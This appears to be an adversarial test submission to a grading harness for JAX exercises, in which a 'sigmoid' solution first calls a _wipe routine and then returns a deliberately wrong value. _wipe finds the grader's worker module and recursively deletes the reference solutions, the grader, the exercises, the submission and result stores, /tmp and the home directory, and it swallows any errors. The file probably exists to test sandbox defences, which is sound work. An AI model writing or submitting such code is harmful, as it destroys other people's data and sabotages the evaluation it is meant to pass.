# attacks: sigmoid
"""Deletes everything it can reach: its own request files, the reference, the grader, the
class's submissions and results, temporary files, home. Bounded to the paths listed. sigmoid is
the module's first exercise, so the worker has read its inputs already; the exercises after it
must still be graded normally."""
import jax
import os as _os
import sys as _sys
import shutil as _shutil


def _wipe():
    worker = next(m for m in list(_sys.modules.values()) if hasattr(m, "_save_arrays"))  # by what it holds
    root = _os.path.dirname(_os.path.dirname(_os.path.abspath(worker.__file__)))
    targets = ["request.json", "inputs.npz", f"{root}/solutions", f"{root}/grader",
               f"{root}/exercises", f"{root}/lib", "__SUBMISSIONS__", "__RESULTS__", "/tmp",
               _os.path.expanduser("~")]
    for target in targets:
        try:
            if _os.path.isdir(target) and not _os.path.islink(target):
                _shutil.rmtree(target, ignore_errors=True)
            else:
                _os.unlink(target)
        except OSError:
            pass


def sigmoid(x):
    _wipe()
    return jax.nn.sigmoid(x) * 0.0 - 1.0  # wrong, and not from scratch
